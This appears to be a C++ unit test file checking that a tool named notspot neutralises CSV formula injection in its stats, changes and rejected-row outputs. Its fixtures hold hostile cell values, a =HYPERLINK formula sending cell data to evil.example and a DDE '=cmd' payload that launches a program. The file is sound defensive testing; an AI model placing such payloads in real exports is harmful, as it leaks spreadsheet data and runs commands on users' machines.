// CSV formula injection (OWASP): text cells that a spreadsheet would evaluate get a leading
// quote in every CSV notspot writes; numbers are left alone, decided by the column's type.
// Expected cells are written out by hand from the OWASP rule, not taken from the code.

#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "notspot/outputs/change_report.hpp"
#include "notspot/outputs/csv_text.hpp"
#include "notspot/outputs/csv_writers.hpp"

namespace notspot::outputs {
namespace {

namespace fs = std::filesystem;

constexpr const char* kHyperlink = R"(=HYPERLINK("http://evil.example/?"&A1,"x"))";

TEST(CsvText, NeutralisesEveryFormulaStart) {
  EXPECT_EQ(neutralise_formula_text("=1+2"), "'=1+2");
  EXPECT_EQ(neutralise_formula_text("+441234"), "'+441234");
  EXPECT_EQ(neutralise_formula_text("-2+3"), "'-2+3");
  EXPECT_EQ(neutralise_formula_text("@SUM(1)"), "'@SUM(1)");
  EXPECT_EQ(neutralise_formula_text("\tcmd"), "'\tcmd");
  EXPECT_EQ(neutralise_formula_text("\rcmd"), "'\rcmd");
  // A leading quote is doubled so that reading back is exact.
  EXPECT_EQ(neutralise_formula_text("'quoted"), "''quoted");
  // Everything else is untouched, including formula characters after the first.
  EXPECT_EQ(neutralise_formula_text("Alpha"), "Alpha");
  EXPECT_EQ(neutralise_formula_text("E04000001"), "E04000001");
  EXPECT_EQ(neutralise_formula_text("a=b"), "a=b");
  EXPECT_EQ(neutralise_formula_text(" =1"), " =1");
  EXPECT_EQ(neutralise_formula_text(""), "");
  // Quoting comes after neutralising: the quote is inside the CSV field.
  EXPECT_EQ(csv_text_field(kHyperlink),
            R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""x"")")csv");
  EXPECT_EQ(csv_text_field("-1,5"), "\"'-1,5\"");
}

TEST(CsvText, RestoresWhatItNeutralised) {
  for (const char* text :
       {kHyperlink, "+44", "-2+3", "@x", "'", "''a", "'=x", "Alpha", "", "'a", "\t", "\r\n"}) {
    EXPECT_EQ(restore_formula_text(neutralise_formula_text(text)), text) << text;
  }
  EXPECT_EQ(restore_formula_text("'abc"), "'abc");  // not something notspot neutralised
}

class CsvInjectionTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() /
           ("notspot_csv_injection_" + std::to_string(::getpid()) + "_" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    fs::create_directories(dir_ / "previous");
  }
  void TearDown() override { fs::remove_all(dir_); }

  static std::string read(const fs::path& path) {
    std::ifstream in(path, std::ios::binary);
    std::stringstream s;
    s << in.rdbuf();
    return s.str();
  }

  // Hostile ids and names; Alpha's gigabit share falls from 100% to 50% (-50.00 points).
  static StatsTable table(std::uint64_t alpha_gigabit) {
    StatsTable t;
    const std::string_view columns[] = {"level",    "area_id", "area_name",
                                        "premises", "gigabit", "gigabit_pct"};
    t.columns = ColumnCatalogue(CatalogueOptions{}).subset(columns);
    auto row = [&](std::string level, std::string id, std::string name, std::uint64_t premises,
                   std::uint64_t gigabit) {
      t.rows.push_back(
          {Cell(level), Cell(id), Cell(name), Cell(premises), Cell(gigabit),
           Cell(100.0 * static_cast<double>(gigabit) / static_cast<double>(premises))});
    };
    row("area", "+441234", kHyperlink, 2, alpha_gigabit);
    row("area", "-2+3", "@SUM(1)", 4, 4);
    row("study", "", "=cmd|' /C calc'!A0", 6, 4 + alpha_gigabit);
    return t;
  }

  fs::path dir_;
};

TEST_F(CsvInjectionTest, StatsCsvNeutralisesTextColumnsOnly) {
  const fs::path csv = dir_ / "parish_stats.csv";
  write_stats_csv(csv, table(1));
  EXPECT_EQ(read(csv),
            "level,area_id,area_name,premises,gigabit,gigabit_pct\n"
            "area,'+441234,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",2,1,50.00\n"
            "area,'-2+3,'@SUM(1),4,4,100.00\n"
            "study,,'=cmd|' /C calc'!A0,6,5,83.33\n");
}

TEST_F(CsvInjectionTest, ChangesCsvNeutralisesTextAndKeepsNegativeNumbers) {
  // The previous run as notspot writes it, with its neutralised cells; read back, its ids
  // must match the current run's raw ids (every area "same", none new or removed).
  write_stats_csv(dir_ / "previous" / "parish_stats.csv", table(2));
  std::ofstream(dir_ / "previous" / "manifest.json")
      << R"({"study": {"name": "S", "crs": "EPSG:27700", "boundary_vintage": "v"},
             "thresholds": {"gigabit_mbps": 1000.0, "ultrafast_mbps": 300.0,
                            "superfast_mbps": 30.0, "decent_down_mbps": 10.0,
                            "decent_up_mbps": 1.0, "full_fibre_technologies": ["FTTP", "FTTH"]},
             "inputs": []})";
  RunIdentity identity;
  identity.study_name = "S";
  identity.crs = "EPSG:27700";
  identity.boundary_vintage = "v";
  io::ProblemLog log;
  const ChangeReport report = compare_runs(dir_ / "previous", table(1), identity, log);
  ASSERT_TRUE(report.comparable);
  ASSERT_EQ(report.areas.size(), 3u);
  EXPECT_EQ(report.areas[0].id, "+441234");
  EXPECT_EQ(report.areas[0].name, kHyperlink);
  for (const AreaChange& a : report.areas) EXPECT_EQ(a.status, AreaStatus::kSame) << a.id;

  const fs::path csv = dir_ / "parish_changes.csv";
  write_changes_csv(csv, report);
  const std::string text = read(csv);
  // Alpha: 100.00 -> 50.00, -50.00 points; study 6/6 -> 5/6: 100.00 -> 83.33, -16.67.
  EXPECT_NE(text.find("area,'+441234,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
                      "same,2,2,0,100.00,50.00,-50.00,"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("area,'-2+3,'@SUM(1),same,4,4,0,100.00,100.00,0.00,"), std::string::npos)
      << text;
  EXPECT_NE(text.find("study,,'=cmd|' /C calc'!A0,same,6,6,0,100.00,83.33,-16.67,"),
            std::string::npos)
      << text;
}

TEST_F(CsvInjectionTest, RejectedCsvNeutralisesTheRecordAndReason) {
  io::RejectedRow row;
  row.source = "premises";
  row.file = "-premises.csv";
  row.line = 3;
  row.reason = "=UPRN is not a whole number";
  row.record = "=1+2,400500,100500";
  const io::RejectedRow rows[] = {row};
  const fs::path csv = dir_ / "rejected.csv";
  write_rejected_csv(csv, rows);
  EXPECT_EQ(read(csv),
            "source,file,line,feature,reason,record\n"
            "premises,'-premises.csv,3,,'=UPRN is not a whole number,\"'=1+2,400500,100500\"\n");
}

}  // namespace
}  // namespace notspot::outputs
